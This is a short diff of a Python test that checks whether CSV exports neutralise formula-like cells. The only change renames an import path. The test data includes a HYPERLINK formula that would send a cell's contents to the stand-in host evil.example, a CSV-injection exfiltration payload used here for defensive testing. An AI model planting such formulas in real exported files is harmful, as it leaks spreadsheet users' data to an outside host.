@@ -113,7 +113,7 @@ def test_it_answers_head_requests(client, tiny_dataset):
 def test_it_neutralises_csv_cells_that_start_like_a_formula(start):
     """OWASP's rule: a cell starting with = + - @ tab or CR gets a leading quote, so it is text, not a formula."""
     from boards.exports import to_csv
-    from leaderboard.selectors import LeaderboardRow
+    from boards.selectors import LeaderboardRow
 
     text = f'{start}HYPERLINK("http://evil.example/?"&A1,"x")'
     row = LeaderboardRow(rank=1, kind="scored", submission_id=1, system=text, owner=text, family="other",
